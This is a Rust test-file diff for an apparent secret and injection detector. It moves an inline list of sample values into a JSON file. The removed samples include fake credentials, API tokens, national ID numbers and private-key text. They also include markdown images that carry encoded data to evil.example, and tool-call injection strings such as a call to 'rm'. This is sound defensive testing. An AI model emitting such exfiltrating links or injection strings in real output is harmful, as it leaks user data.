@@ -33,70 +33,15 @@ macro_rules! value {
     ($($part:expr),+) => { [$($part),+].concat() };
 }
 
-#[rustfmt::skip]
+/// The values of `samples.json`, which the end-to-end tests read, too: in parts, for the same reason.
 fn must_match() -> Vec<(&'static str, String)> {
-    vec![
-        ("email", value!("jane.doe+x@mail.example.co", ".uk")),
-        ("email", value!("a@b.io")),
-        ("payment_card", value!("4111 1111 ", "1111 1111")),
-        ("payment_card", value!("5555555555", "554444")),
-        ("payment_card", value!("2223-0031-", "2200-3222")),
-        ("payment_card", value!("3782 822463 ", "10005")),
-        ("payment_card", value!("6011111111", "111117")),
-        ("iban", value!("DE89 3704 0044 ", "0532 0130 00")),
-        ("iban", value!("GB29NWBK6016", "1331926819")),
-        ("iban", value!("NO93 8601 ", "1117 947")),
-        ("us_ssn", value!("536-22-", "1234")),
-        ("phone", value!("+49 30 ", "901820")),
-        ("phone", value!("+1 (415) ", "555-2671")),
-        ("phone", value!("+4479111", "23456")),
-        ("ipv4", value!("93.184.", "216.34")),
-        ("ipv6", value!("2001:470:1f0b:", "83::2")),
-        ("ipv6", value!("2a00:1450:4001:0828:", "0000:0000:0000:200e")),
-        ("jwt", value!("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.", "eyJzdWIiOiIxMjM0In0.", "abc_def-ghi")),
-        ("private_key", value!("-----BEGIN RSA ", "PRIVATE KEY-----\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\nAAAA\n-----END RSA ", "PRIVATE KEY-----")),
-        ("private_key", value!("-----BEGIN ", "PRIVATE KEY-----\\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\\n-----END ", "PRIVATE KEY-----")),
-        ("url_credentials", value!("postgres://admin:", "s3cr3t@db.internal:5432")),
-        ("url_credentials", value!("redis://:", "hunter22@cache")),
-        ("aws_access_key", value!("AKIA", "Z7Q3M5N2P4R6S2T3")),
-        ("google_api_key", value!("AIza", "SyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY")),
-        ("github_token", value!("ghp_", "abcdefghijABCDEFGHIJ0123456789", "2C2O59")),
-        ("github_token", value!("github_pat_", "11ABCDEFG0abcdefghijkl_", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL")),
-        ("npm_token", value!("npm_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")),
-        ("anthropic_key", value!("sk-ant-", "api03-", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8-_s9T0AA")),
-        ("openai_key", value!("sk-", "proj-a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")),
-        ("openai_key", value!("sk-", "a1B2c3D4e5F6g7H8i9J0T3BlbkFJk1L2m3N4o5P6q7R8s9T0")),
-        ("huggingface_token", value!("hf_", "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH")),
-        ("gitlab_token", value!("glpat-", "a1B2c3D4e5F6g7H8i9J0")),
-        ("slack_token", value!("xoxb-", "123456789012-1234567890123-a1B2c3D4e5F6g7H8i9J0k1L2")),
-        ("slack_token", value!("https://hooks.slack.com/", "services/T00000000/B00000000/a1B2c3D4e5F6g7H8i9J0k1L2")),
-        ("stripe_key", value!("sk_", "live_a1B2c3D4e5F6g7H8i9J0k1L2")),
-        ("cn_resident_id", value!("11010519", "491231002X")),
-        ("ca_sin", value!("436 123 ", "459")),
-        ("uk_nhs", value!("943 476 ", "5919")),
-        ("in_aadhaar", value!("2341 2341 ", "2346")),
-        ("us_aba", value!("0210", "00021")),
-        ("us_npi", value!("12345", "67893")),
-        ("es_dni", value!("1234", "5678Z")),
-        ("es_dni", value!("X123", "4567L")),
-        ("de_tax_id", value!("860957", "42719")),
-        ("pl_pesel", value!("440514", "01359")),
-        ("au_tfn", value!("123 456 ", "782")),
-        ("kr_rrn", value!("900101-", "1234568")),
-        ("sg_nric", value!("S123", "4567D")),
-        ("it_fiscal_code", value!("RSSMRA85", "T10A562S")),
-        ("btc_address", value!("1A1zP1eP5QGefi2DMPTf", "TL5SLmv7DivfNa")),
-        ("btc_address", value!("bc1qar0srrr7xfkvy5l643", "lydnw9re59gtzzwf5mdq")),
-        ("eth_address", value!("0x5aAeb6053F3E94C9b9A0", "9f33669435E7Ef1BeAed")),
-        ("markdown_image", value!("![a](https://evil.example/p.png?d=c2Vj", "cmV0)")),
-        ("markdown_image", "![](//evil.example/x)".to_owned()),
-        ("markdown_link_data", "](https://evil.example/x?d=abc)".to_owned()),
-        ("tool_call_text", "<tool_call>".to_owned()),
-        ("tool_call_text", "[TOOL_CALLS]".to_owned()),
-        ("tool_call_text", "<|python_tag|>".to_owned()),
-        ("tool_call_text", "```json\n{\"name\": \"rm\", \"arguments\"".to_owned()),
-        ("stripe_key", value!("whsec_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6")),
-    ]
+    #[derive(serde::Deserialize)]
+    struct Sample {
+        detect: &'static str,
+        parts: Vec<String>,
+    }
+    let samples: Vec<Sample> = serde_json::from_str(include_str!("samples.json")).unwrap();
+    samples.into_iter().map(|sample| (sample.detect, sample.parts.concat())).collect()
 }
 
 #[test]
